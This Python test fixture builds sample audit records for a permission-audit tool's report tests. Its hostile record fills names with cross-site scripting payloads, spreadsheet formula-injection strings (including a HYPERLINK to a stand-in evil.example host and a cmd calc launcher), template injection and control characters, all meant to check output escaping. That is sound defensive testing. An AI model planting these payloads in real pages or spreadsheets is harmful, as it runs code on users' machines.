"""Records for the report tests, built by hand (no crawl): a plain one and a hostile one.

The hostile record puts markup, formula starts, control characters and 10,000-character
strings into every name the site controls: DocTypes, modules, users, roles, documents,
messages, and the findings that quote them.
"""

from __future__ import annotations

from audit.crawl.inventory import DocTypeInfo, Inventory, UserFacts
from audit.model import Attempt, Finding, Operation, Outcome, ProbeMethod, ProbeResult, Severity
from audit.results.record import RunInfo, RunResults, UserRecord

LONG = "L" * 10_000
HOSTILE_DOCTYPES = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(2)</script>',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rCarriage",
    "ctl\x00\x07\x1b[31mred\x7f",
    "</script><script>alert(3)</script>",
    "{{ 7*7 }}",
    "D" + LONG,
)
HOSTILE_USERS = ("<svg onload=alert(4)>", "=cmd|' /C calc'!A0", "U" + LONG, "plain")
HOSTILE_ROLE = "<b onmouseover=alert(5)>Role</b>"
HOSTILE_TARGET = '=1+1"><iframe src="javascript:alert(6)">'
HOSTILE_MESSAGE = "<script>alert(7)</script> =HYPERLINK(\"x\") \x00\x1b"
HOSTILE_MODULE = "<details open ontoggle=alert(8)>"
SENSITIVE = ("User", "Role")


def _outcome(u: int, d: int, op: Operation, doctype: DocTypeInfo) -> Outcome:
    if not doctype.applicable(op):
        return Outcome.NOT_APPLICABLE
    if (u + d) % 7 == 3 and op is Operation.CREATE:
        return Outcome.ERROR
    if (u + d) % 5 == 1 and op is Operation.DELETE:
        return Outcome.UNTESTABLE
    return Outcome.ALLOWED if (u * 3 + d + op.value.__len__()) % 4 == 0 else Outcome.DENIED


def build(users: tuple[str, ...], doctypes: tuple[str, ...], module: str = "Core",
          role: str = "Sales User", target: str = "DOC-0001", message: str = "",
          findings_per_user: int = 2) -> RunResults:
    infos = {name: DocTypeInfo(name=name, module=module if i % 2 else "Selling",
                               is_submittable=i % 3 == 0) for i, name in enumerate(doctypes)}
    probes: list[ProbeResult] = []
    for u, user in enumerate(users):
        for d, name in enumerate(doctypes):
            for op in Operation:
                outcome = _outcome(u, d, op, infos[name])
                status = {Outcome.ALLOWED: 417, Outcome.DENIED: 403}.get(outcome)
                probes.append(ProbeResult(
                    user=user, doctype=name, op=op, outcome=outcome,
                    method=ProbeMethod.REST if status else ProbeMethod.NONE, http_status=status,
                    exc_type="PermissionError" if status == 403 else "",
                    message=(message or f"No permission for {name}") if status == 403 else "",
                    target=target if status else "",
                    reason=message if outcome is Outcome.ERROR else "",
                    attempts=(Attempt(target=target, method=ProbeMethod.REST, http_status=429,
                                      exc_type="", message="Too Many Requests"),)
                    if outcome is Outcome.ERROR else ()))
    records = [UserRecord(name=user, auth="token", frappe_user=f"u{u}@example.com",
                          roles=(role, "Accounts User"), user_type="System User", enabled=u != 1,
                          has_api_key=True, last_login="2026-11-30 09:00:00",
                          expect={doctypes[0]: ("read",)} if u % 2 == 0 else None)
               for u, user in enumerate(users)]
    facts = {r.frappe_user or "": UserFacts(frappe_user=r.frappe_user or "", roles=r.roles,
                                            user_type=r.user_type, enabled=r.enabled)
             for r in records}
    findings: list[Finding] = []
    for u, user in enumerate(users):
        allowed = [p for p in probes if p.user == user and p.outcome is Outcome.ALLOWED]
        for k, rule in enumerate(("beyond-need", "sensitive-access", "privileged-role")
                                 [:findings_per_user]):
            cells = allowed[k::3][:5]
            findings.append(Finding(
                id=f"{rule}:{u:04d}", severity=(Severity.MEDIUM, Severity.HIGH,
                                                Severity.CRITICAL)[k],
                rule=rule, user=user, doctype=cells[0].doctype if cells else "",
                op=cells[0].op.value if cells else "",
                detail=f"{user} may {message or 'do more than it needs'}",
                evidence=(*(f"{p.user}|{p.doctype}|{p.op.value}" for p in cells),
                          f"role:{role}"),
                recommendation=f"remove role {role} from {user}"))
    analysis = {
        "users": {user: {"sensitive": [f"{user}|{d}|write" for d in doctypes[:1]],
                         "minimal_roles": [role], "minimal_roles_removes": [],
                         "unused": [f"{user}|{doctypes[-1]}|delete"],
                         "changes": [f"+{user}|{doctypes[0]}|read"]}
                  for user in users},
        "drift": {"baseline": "old/results.json", "gained": [f"{users[0]}|{doctypes[0]}|read"],
                  "lost": [], "findings_new": [findings[0].id] if findings else []},
    }
    run = RunInfo(site="https://erp.example.com", host=None, mode="safe",
                  started="2026-12-01T10:00:00Z", finished="2026-12-01T10:05:00Z", complete=True,
                  discovery="auditor", tool_version="0.1.0")
    return RunResults(run=run, users=tuple(records),
                      inventory=Inventory(source="auditor", doctypes=infos, users=facts),
                      probes=tuple(probes), findings=tuple(findings), analysis=analysis)


def plain() -> RunResults:
    doctypes = ("Customer", "Item", "Role", "Sales Invoice", "ToDo", "User")
    return build(("alice", "bob", "carol"), doctypes)


def hostile() -> RunResults:
    return build(HOSTILE_USERS, (*HOSTILE_DOCTYPES, *SENSITIVE), module=HOSTILE_MODULE,
                 role=HOSTILE_ROLE, target=HOSTILE_TARGET, message=HOSTILE_MESSAGE)
